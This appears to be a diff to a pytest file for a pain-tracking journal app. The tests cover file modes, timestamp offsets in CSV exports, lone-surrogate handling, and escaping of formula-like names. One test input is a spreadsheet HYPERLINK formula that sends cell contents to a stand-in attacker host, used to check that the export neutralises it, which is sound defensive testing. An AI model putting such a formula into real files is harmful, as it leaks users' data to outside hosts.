@@ -396,10 +396,9 @@ def test_locked_database_queues_the_pain_stop_until_flush(path: Path) -> None:
 
 @posix_only
 def test_folder_and_files_are_private(tmp_path: Path) -> None:
-    """The folder is 0700 and the journal, its -wal and -shm are 0600, whatever the umask."""
+    """The folder the journal creates is 0700 and the journal, its -wal and -shm are 0600,
+    whatever the umask."""
     data = tmp_path / "data"
-    data.mkdir(mode=0o755)
-    data.chmod(0o755)
     path = data / "journal.sqlite3"
     old_umask = os.umask(0)
     try:
@@ -414,7 +413,8 @@ def test_folder_and_files_are_private(tmp_path: Path) -> None:
 
 @posix_only
 def test_backup_and_new_folder_are_private(tmp_path: Path) -> None:
-    """A new folder is created 0700 and a pre-migration backup is 0600."""
+    """A new folder is created 0700 and a pre-migration backup is 0600; a journal that
+    already existed keeps its own mode (the app sets modes only on what it creates)."""
     path = tmp_path / "new" / "journal.sqlite3"
     path.parent.mkdir()
     with closing(sqlite3.connect(path)) as conn:
@@ -423,7 +423,7 @@ def test_backup_and_new_folder_are_private(tmp_path: Path) -> None:
     with opened(path):
         pass
     (backup,) = path.parent.glob("*.bak")
-    assert (mode(path), mode(backup)) == (0o600, 0o600)
+    assert (mode(path), mode(backup)) == (0o644, 0o600)
     with opened(tmp_path / "fresh" / "journal.sqlite3"):
         assert mode(tmp_path / "fresh") == 0o700
 
@@ -458,3 +458,69 @@ def test_v2_before_after_and_pain_stop_details_round_trip(path: Path) -> None:
         journal.export_csv(sessions_csv)
         (srow,) = csv.DictReader(io.StringIO(sessions_csv.getvalue()))
         assert (srow["pain_before"], srow["reach_after"], srow["flare"]) == ("6", "buttock", "1")
+
+
+def test_export_gives_every_time_its_utc_offset(path: Path) -> None:
+    """Both CSV exports give every time its UTC offset; a time stored without one (an older or
+    hand-made row) is taken as local time, and text that is no time is left as it is."""
+    with opened(path) as journal:
+        pain_stop(journal, journal.start_session("r", "R"))
+    with closing(sqlite3.connect(path)) as db, db:
+        db.execute(
+            "INSERT INTO session (started_at, ended_at, routine_id, routine_name, status) "
+            "VALUES ('2020-01-01T08:00:00', 'garbled', 'r', 'R', 'completed')"
+        )
+        db.execute(
+            "INSERT INTO pain_stop (session_id, at, routine_id, phase_kind, phase_label, "
+            "seconds_into) VALUES (1, '2020-01-01 08:10', 'r', 'work', 'Hold', 3)"
+        )
+    with opened(path) as journal:
+        sessions, stops = io.StringIO(), io.StringIO()
+        journal.export_csv(sessions)
+        journal.export_pain_stops_csv(stops)
+    session_rows = list(csv.DictReader(io.StringIO(sessions.getvalue())))
+    stop_rows = list(csv.DictReader(io.StringIO(stops.getvalue())))
+    assert [r["started_at"] for r in session_rows] == [
+        "2026-03-01T09:15:31+02:00",
+        datetime(2020, 1, 1, 8, 0).astimezone().isoformat(),
+    ]
+    assert [r["ended_at"] for r in session_rows] == ["2026-03-01T09:15:32+02:00", "garbled"]
+    assert [r["at"] for r in stop_rows] == [
+        "2026-03-01T09:15:32+02:00",
+        datetime(2020, 1, 1, 8, 10).astimezone().isoformat(),
+    ]
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.invalid/?d="&A1,"open")', "@SUM(1)", "+1", "-1", "\tx", "\rx"]
+)
+def test_csv_cells_that_look_like_formulas_are_neutralised(tmp_path: Path, name: str) -> None:
+    """A routine or exercise named like a formula lands in both CSV files as text, as
+    spreadsheets expect (a leading apostrophe), never as a formula."""
+    with Journal.open(tmp_path / "j.sqlite3") as journal:
+        sid = journal.start_session("r", name)
+        journal.record_pain_stop(sid, "r", "x", name, "left", "work", "Roll", 3.0)
+        sessions, stops = io.StringIO(), io.StringIO()
+        journal.export_csv(sessions)
+        journal.export_pain_stops_csv(stops)
+    (session,) = list(csv.DictReader(io.StringIO(sessions.getvalue())))
+    (stop,) = list(csv.DictReader(io.StringIO(stops.getvalue())))
+    assert session["routine_name"] == "'" + name
+    assert stop["exercise_name"] == "'" + name
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in (*session.values(), *stop.values()))
+
+
+def test_a_lone_surrogate_in_a_name_never_blocks_a_write(tmp_path: Path) -> None:
+    """A name with a lone surrogate (valid JSON, invalid UTF-8) is saved escaped: the pain
+    stop is on disk and the next session still starts (the queue is not poisoned)."""
+    with Journal.open(tmp_path / "j.sqlite3") as journal:
+        sid = journal.start_session("r", "Routine \udc00")
+        journal.record_pain_stop(sid, "r", "x", "Roll \udc00", "left", "work", "Roll", 1.0)
+        assert journal.writable, "nothing left pending in memory"
+        journal.start_session("r", "Next one")
+        assert journal.writable
+    with sqlite3.connect(tmp_path / "j.sqlite3") as db:
+        names = db.execute("select exercise_name from pain_stop").fetchall()
+        count = db.execute("select count(*) from session").fetchone()
+    db.close()
+    assert names == [("Roll \\udc00",)] and count == (2,)
